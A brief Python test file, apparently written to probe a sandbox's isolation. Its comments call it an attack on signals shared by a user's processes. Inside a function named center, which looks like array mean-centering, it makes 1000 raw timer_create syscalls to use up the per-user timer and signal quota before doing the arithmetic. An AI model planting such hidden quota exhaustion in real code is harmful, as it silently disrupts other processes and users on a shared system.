# RTE exception
# attacks: the signals that may wait for all processes of the user together
# needs: processes
import ctypes
import os

TIMER_CREATE = {"x86_64": 222, "aarch64": 107}[os.uname().machine]


def center(x):
    libc, timer = ctypes.CDLL(None, use_errno=True), ctypes.c_int()
    for _ in range(1000):
        if libc.syscall(ctypes.c_long(TIMER_CREATE), ctypes.c_int(0), None, ctypes.byref(timer)) != 0:
            raise OSError(ctypes.get_errno(), "timer_create")
    return x - x.mean(axis=-1, keepdims=True)
